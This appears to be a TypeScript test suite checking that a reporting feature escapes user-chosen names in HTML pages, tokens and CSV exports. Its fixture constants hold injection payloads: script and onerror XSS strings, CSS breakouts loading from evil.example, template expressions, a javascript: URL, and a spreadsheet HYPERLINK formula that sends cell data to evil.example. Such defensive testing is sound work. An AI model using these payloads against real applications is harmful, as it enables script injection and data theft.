import assert from 'node:assert/strict';
import { createClient } from '../../support/clients.ts';
import { NOVEMBER_2026, readCsv, readReports, reportPath } from '../../support/pro-reports.ts';
import { editSettings } from '../../support/settings.ts';
import { syncSites } from '../../support/sites.ts';
import { startWorld, type World } from '../../support/world.ts';

const AGENCY = 'Agency"; } body { background: url(http://evil.example/a) } </style><script>alert(1)</script>';
/** Names that sites and callers choose. Each must come out as the same text. */
const NAMES = {
  token: '[agency.name] [period] [[site.name]] {site} {count} %s ${1+1}',
  template: '<%= 40 + 2 %> <%~ it.brand %> {{7*7}}',
  html: '<img src=x onerror=alert(1)><script>alert(1)</script> & "\'',
  css: '</style><style>*{background:url(http://evil.example/c)}</style> \\"}',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  url: 'javascript:alert(1)//http://evil.example/u',
};

const escaped = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');

describe('injection by values of report templates', () => {
  let world: World;
  let client: number;
  let template: string;
  before(async () => {
    world = await startWorld({ sites: 1 });
    client = await createClient(world, 'Corner Bakery', { selected_sites: [world.siteId(0)] });
    await editSettings(world, 'pro-reports', { agency_name: AGENCY });
    const greeting = 'Client [client.name] of [agency.name].\nSite [site.name] in [period].';
    const body = { name: 'All', greeting, intro: '[client.name]', closing: '[site.name]', appendix: ['inventory'] };
    template = (await world.request('POST', '/api/v2/report-templates/add', { body })).body.data.key;
  });
  after(() => world.close());

  /** Gives client, site and a plugin of the site this name. */
  async function name(text: string): Promise<void> {
    await world.request('PUT', `/api/v2/clients/${client}/edit`, { body: { name: text } });
    await world.container
      .knex('sites')
      .where({ id: world.siteId(0) })
      .update({ name: text });
    const site = world.site(0);
    const [plugin] = site.state.plugins.values();
    assert.ok(plugin);
    plugin.definition = { ...plugin.definition, name: text };
    site.touch();
    await syncSites(world, world.siteId(0));
  }

  for (const [kind, text] of Object.entries(NAMES)) {
    describe(`names with a ${kind}`, () => {
      before(() => name(text));

      for (const about of ['pro-reports', 'clients'])
        it(`when a page of ${about} is read, then it has the name as text and no further markup, style or link`, async () => {
          const path = about === 'clients' ? `clients/${client}/pro-reports` : `pro-reports/${world.siteId(0)}`;
          const query = { ...NOVEMBER_2026, template, format: 'html' };
          const page = (await world.agent().get(reportPath(path, query)).expect(200)).text;
          const [, style = '', body = ''] = /<style>([^]*?)<\/style>([^]*)$/.exec(page) ?? [];
          assert.ok(body.includes(`<p dir="auto">Client ${escaped(text)} of `), body.slice(0, 1_500));
          if (about === 'pro-reports')
            assert.ok(body.includes(`<p dir="auto">Site ${escaped(text)} in November 2026.</p>`), body.slice(0, 1_500));
          assert.ok(body.includes(escaped(text)) && !body.includes('>42 '));
          assert.equal(/url\(|<|evil\.example/.test(style), false);
          assert.deepEqual(body.match(/<(script|img|style|link|iframe|a)\b|\son\w+=(?=[^<]*>)|href=/g), null);
        });

      it('when the tokens of a segment are read, then one has the name as its text, and none is added', async () => {
        const { segments } = await readReports(world, world.siteId(0), { segments: 'misc' });
        const { sections_data: sections, other_tokens_data: others } = segments['misc'] ?? assert.fail();
        assert.deepEqual([others['[report.client.name]'], others['[report.site.name]']], [text, text]);
        const tokens = sections.flat().filter((each) => Object.values(each).includes(text));
        assert.ok(tokens.length > 0);
        for (const token of [...tokens.flatMap(Object.keys), ...Object.keys(others)])
          assert.match(token, /^\[report(\.[a-z0-9]+)+\]$/);
      });

      it('when a segment is read as CSV, then a cell has the name, and none is a formula', async () => {
        const { lines } = await readCsv(world, world.siteId(0), 'misc');
        const quoted = (kind === 'formula' ? `'${text}` : text).replaceAll('"', '""');
        assert.ok(
          lines.some((line) => line.includes(quoted)),
          lines.join('\n'),
        );
        assert.ok(lines.every((line) => !/(^|,)"?\s*[=+@]/.test(line)));
      });
    });
  }
});
